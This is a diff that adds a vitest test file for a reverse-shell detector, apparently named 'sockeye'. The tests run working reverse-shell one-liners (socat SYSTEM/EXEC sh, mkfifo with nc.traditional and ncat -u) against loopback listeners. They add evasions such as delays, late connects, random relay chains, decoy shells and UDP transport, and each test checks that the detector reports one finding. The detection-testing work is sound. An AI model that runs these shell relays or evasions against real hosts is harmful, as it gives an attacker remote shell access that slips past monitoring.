@@ -1,0 +1,186 @@
+/**
+ * The relay evasions (issue 26): relays that wait out a window, connect late, add hops, hide
+ * behind decoy candidates or talk UDP. Real programs against loopback listeners that send a
+ * command and read its answer; variants are generated at test time (a delay past any window
+ * the rule had, a chain of random length and hop kinds), so no list in the code can satisfy
+ * them. Each must give exactly one finding from the default configuration.
+ */
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { Engine, ProcHostView, ProcessTable, builtinRules, type Finding } from "sockeye";
+import dgram from "node:dgram";
+import { mkdtempSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { PYTHON, Session, commandingListener, freePort, kernelTier, run } from "./harness.js";
+
+const tier = kernelTier();
+
+interface RelayFinding extends Finding {
+  destination: { ip: string; port: number };
+  network: { transport: string };
+  sockeye: Finding["sockeye"] & { relay: { program: { name: string }; input_chain: unknown[]; output_chain: unknown[] } };
+}
+
+/** A whole number from min to max inclusive, logged so a failing draw can be replayed. */
+function draw(what: string, min: number, max: number): number {
+  const n = min + Math.floor(Math.random() * (max - min + 1));
+  console.log(`relay-evasions: ${what} = ${n}`);
+  return n;
+}
+
+/**
+ * A UDP "listener" for a client bound to `clientPort`: it sends the command there until the
+ * answer comes back from that port (the client may not be up yet: early datagrams are lost),
+ * then `exit`. UDP has no accept: the client's port is fixed by the test so the listener
+ * knows where to send first.
+ */
+async function udpCommander(clientPort: number): Promise<{ port: number; answered: Promise<boolean>; close(): Promise<void> }> {
+  const sock = dgram.createSocket("udp4");
+  sock.on("error", () => {});
+  await new Promise<void>((resolve) => sock.bind(0, "127.0.0.1", resolve));
+  let got = "";
+  let resolveAnswered!: (ok: boolean) => void;
+  const answered = new Promise<boolean>((r) => (resolveAnswered = r));
+  const timer = setInterval(() => sock.send("echo RELAY_$((6*7))\n", clientPort, "127.0.0.1"), 300);
+  sock.on("message", (msg, from) => {
+    if (from.port !== clientPort) return;
+    got += msg.toString();
+    if (got.includes("RELAY_42")) {
+      clearInterval(timer);
+      resolveAnswered(true);
+      // The rules read /proc of live processes: the shell lives a moment longer.
+      setTimeout(() => sock.send("exit\n", clientPort, "127.0.0.1"), 1500);
+    }
+  });
+  setTimeout(() => { clearInterval(timer); resolveAnswered(false); }, 20_000).unref();
+  return { port: sock.address().port, answered, close: () => new Promise((resolve) => { clearInterval(timer); sock.close(() => resolve()); }) };
+}
+
+describe.runIf(tier.run)("kernel: relay evasions (no window, no hop count, decoys, UDP), default configuration", () => {
+  let session: Session;
+  let engine: Engine;
+  const findings: RelayFinding[] = [];
+  const dir = mkdtempSync(join(tmpdir(), "sockeye-relay-evasions-"));
+
+  beforeAll(async () => {
+    session = await Session.open();
+    const table = new ProcessTable({ host: new ProcHostView() });
+    table.seedFromProc();
+    engine = new Engine({ rules: builtinRules(), processes: table });
+    session.sensor.subscribe((events) => {
+      for (const e of events) for (const f of engine.handle(e)) findings.push(f as unknown as RelayFinding);
+    });
+  });
+  afterAll(() => session?.close());
+
+  const forPort = (port: number) => findings.filter((f) => f.destination?.port === port);
+
+  /** Runs `script` under bash against a commanding TCP listener; expects one RELAY-001 finding for it. */
+  async function caughtOnce(script: (port: number) => string, killAfterS: number, program: string[]): Promise<RelayFinding> {
+    const listener = await commandingListener("127.0.0.1");
+    try {
+      const r = await run("timeout", ["-s", "KILL", String(killAfterS), "bash", "-c", script(listener.port)]);
+      expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
+      await session.settle();
+      const found = forPort(listener.port);
+      expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
+      expect(program).toContain(found[0]!.sockeye.relay.program.name);
+      return found[0]!;
+    } finally {
+      await listener.close();
+    }
+  }
+
+  it("socat TCP:H:P SYSTEM:'sleep 11; exec sh -i': the shell starts 11 s after the connect", async () => {
+    await caughtOnce((p) => `socat TCP:127.0.0.1:${p} SYSTEM:'sleep 11; exec sh -i'`, 40, ["socat"]);
+  }, 60_000);
+
+  it("the same with a delay drawn at test time past any window the rule had (12-20 s)", async () => {
+    const delay = draw("socat SYSTEM delay (s)", 12, 20);
+    await caughtOnce((p) => `socat TCP:127.0.0.1:${p} SYSTEM:'sleep ${delay}; exec sh -i'`, delay + 30, ["socat"]);
+  }, 80_000);
+
+  it("a relay that connects more than 5 s after its shell started (a drawn 6-9 s)", async () => {
+    const delay = draw("late connect delay (s)", 6, 9);
+    const f = join(dir, `late-${delay}`);
+    await caughtOnce((p) => `rm -f ${f}; mkfifo ${f}; sh -i < ${f} 2>&1 | (sleep ${delay}; exec nc.traditional 127.0.0.1 ${p}) > ${f}`, delay + 30, ["nc.traditional"]);
+  }, 60_000);
+
+  it("a chain of random length (2-6 hops of cat, socat and FIFOs, generated now) between the shell and nc", async () => {
+    const kinds = ["cat", "socat", "fifo"] as const;
+    let fifos = 0;
+    const hop = (kind: (typeof kinds)[number]) => {
+      if (kind === "cat") return "cat";
+      if (kind === "socat") return "socat -u STDIN STDOUT";
+      // Two processes around a FIFO of its own: one reads it out (in the background, its
+      // stdin redirected explicitly: bash gives a background command /dev/null otherwise), the
+      // other writes the hop's input into it.
+      const ff = join(dir, `hop-${process.pid}-${fifos++}`);
+      return `{ rm -f ${ff}; mkfifo ${ff}; cat < ${ff} & cat > ${ff}; wait; }`;
+    };
+    const side = (n: number) => Array.from({ length: n }, () => kinds[Math.floor(Math.random() * kinds.length)]!);
+    const total = draw("chain hops", 2, 6);
+    const inward = side(draw("of which on the input side", 1, total - 1));
+    const outward = side(total - inward.length);
+    console.log(`relay-evasions: chain nc -> ${inward.join(" -> ")} -> sh -> ${outward.join(" -> ")} -> nc`);
+    const f = join(dir, `chain-${total}`);
+    const found = await caughtOnce(
+      (p) => `rm -f ${f}; mkfifo ${f}; nc.traditional 127.0.0.1 ${p} < ${f} | ${inward.map(hop).join(" | ")} | sh -i 2>&1 | ${outward.map(hop).join(" | ")} > ${f}`,
+      30, ["nc.traditional"]);
+    // Every hop is on the way: a FIFO hop is two processes.
+    const processes = (list: readonly string[]) => list.reduce((n, k) => n + (k === "fifo" ? 2 : 1), 0) + 1;
+    expect(found.sockeye.relay.input_chain).toHaveLength(processes(inward));
+    expect(found.sockeye.relay.output_chain).toHaveLength(processes(outward));
+  }, 60_000);
+
+  it("300 decoy candidate shells started between the shell's exec and its relay's connect: one finding, no candidate abandoned", async () => {
+    const ready = join(dir, "decoys-ready");
+    const f = join(dir, "decoys");
+    const before = engine.stats().ruleState["RELAY-001"]?.abandoned ?? 0;
+    const decoys = `${PYTHON} -c '
+import subprocess,time,os
+ds=[subprocess.Popen(["/bin/sh"],stdin=subprocess.PIPE,stdout=subprocess.PIPE) for _ in range(300)]
+open("${ready}","w").close()
+time.sleep(8)
+for d in ds: d.kill()
+'`;
+    await caughtOnce(
+      (p) => `rm -f ${f} ${ready}; mkfifo ${f}; sh -i < ${f} 2>&1 | (while [ ! -e ${ready} ]; do sleep 0.2; done; exec nc.traditional 127.0.0.1 ${p}) > ${f} & sleep 0.5; ${decoys} & wait`,
+      40, ["nc.traditional"]);
+    expect(engine.stats().ruleState["RELAY-001"]!.abandoned).toBe(before);
+  }, 60_000);
+
+  it("socat UDP:127.0.0.1:P EXEC:sh (a connected UDP socket, socketpair): one finding, transport udp", async () => {
+    const clientPort = await freePort();
+    const listener = await udpCommander(clientPort);
+    try {
+      const r = await run("timeout", ["-s", "KILL", "20", "socat", `UDP:127.0.0.1:${listener.port},sourceport=${clientPort}`, "EXEC:sh"]);
+      expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
+      await session.settle();
+      const found = forPort(listener.port);
+      expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
+      expect(found[0]!.network.transport).toBe("udp");
+      expect(found[0]!.sockeye.relay.program.name).toBe("socat");
+    } finally {
+      await listener.close();
+    }
+  }, 40_000);
+
+  it("ncat -u with mkfifo: sh -i < F 2>&1 | ncat -u H P > F: one finding, transport udp", async () => {
+    const clientPort = await freePort();
+    const listener = await udpCommander(clientPort);
+    const f = join(dir, "udp-fifo");
+    try {
+      const r = await run("timeout", ["-s", "KILL", "20", "bash", "-c",
+        `rm -f ${f}; mkfifo ${f}; sh -i < ${f} 2>&1 | ncat -u -p ${clientPort} 127.0.0.1 ${listener.port} > ${f}`]);
+      expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
+      await session.settle();
+      const found = forPort(listener.port);
+      expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
+      expect(found[0]!.network.transport).toBe("udp");
+      expect(found[0]!.sockeye.relay.program.name).toBe("ncat");
+    } finally {
+      await listener.close();
+    }
+  }, 40_000);
+});
